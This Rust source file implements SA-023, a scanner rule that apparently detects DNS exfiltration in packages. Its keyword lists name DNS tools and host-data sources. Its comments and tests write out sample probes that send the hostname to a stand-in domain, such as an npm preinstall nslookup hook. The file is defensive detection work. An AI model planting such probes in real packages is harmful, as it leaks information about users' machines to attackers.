//! `SA-023` DNS exfiltration (threat). Finds host data sent as a DNS name: `nslookup
//! $(hostname).x.example`, `dig $(whoami).…`, or code resolving a name built at run time
//! beside host details.
//!
//! Why: a DNS query leaves through firewalls that stop HTTP; dependency-confusion probes use
//! it to report where they ran. Example: `"preinstall": "nslookup \`hostname\`.x.example"`.
//! Known false positives: none known for lookups of names built from host data.

use super::{Ctx, Hit, Kind, Rule, is_script};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule =
    Rule { id: "SA-023", name: "DNS exfiltration", kind: Kind::Threat, behaviour: Behaviour::Probe, weight: 8 };

const LOOKUPS: &[&str] = &["nslookup", "dig", "host", "ping", "resolve-dnsname"];
const HOST_DATA: &[&str] =
    &["hostname", "whoami", "$user", "%username%", "%computername%", "uname", "$(id", "`id", "pwd"];

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let f = ctx.facts;
    if is_script(ctx.file) {
        for c in f.calls.iter().filter(|c| LOOKUPS.contains(&c.name.as_str())) {
            let arg = c.first.as_deref().unwrap_or("").to_ascii_lowercase();
            if HOST_DATA.iter().any(|h| arg.contains(h))
                && (arg.contains('`') || arg.contains("$(") || arg.contains('%') || arg.contains("$"))
            {
                out.push(Hit::new(&RULE, c.line, format!("{} {}", c.name, arg.chars().take(100).collect::<String>())));
                return;
            }
        }
        return;
    }
    // Code: a lookup of a name built from host details (`dns.lookup(os.hostname() + ".x")`).
    const HOST: &[&str] =
        &["os.hostname", "os.userInfo", "socket.gethostname", "getpass.getuser", "os.getlogin", "platform.node"];
    const LOOKUP: &[&str] = &[
        "dns.lookup",
        "dns.resolve",
        "dns.resolve4",
        "dns.resolveTxt",
        "dns.promises.resolve",
        "socket.gethostbyname",
        "socket.getaddrinfo",
        "dns.resolver.resolve",
        "dns.resolver.query",
    ];
    let built = |c: &&crate::facts::Call| {
        c.first.is_none() && c.inner.iter().any(|i| HOST.iter().any(|h| crate::facts::name_is(i, h)))
    };
    if let Some(l) = f.calls_to(LOOKUP).find(built) {
        out.push(Hit::new(&RULE, l.line, format!("{}() of a name built from host details", l.name)));
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn fires_on_host_data_in_names() {
        assert!(fired("package.json#scripts.preinstall", "nslookup `hostname`.x.example", INSTALL).contains(&"SA-023"));
        assert!(fired("a.js", "const dns = require('dns'); const os = require('os'); dns.lookup(os.hostname() + '.x.example', () => {})", LIBRARY).contains(&"SA-023"));
    }

    #[test]
    fn near_misses() {
        assert!(!fired("a.sh", "nslookup example.org\n", LIBRARY).contains(&"SA-023"));
        assert!(
            !fired("a.js", "const dns = require('dns'); dns.lookup('registry.example.org', cb)", LIBRARY)
                .contains(&"SA-023")
        );
    }
}
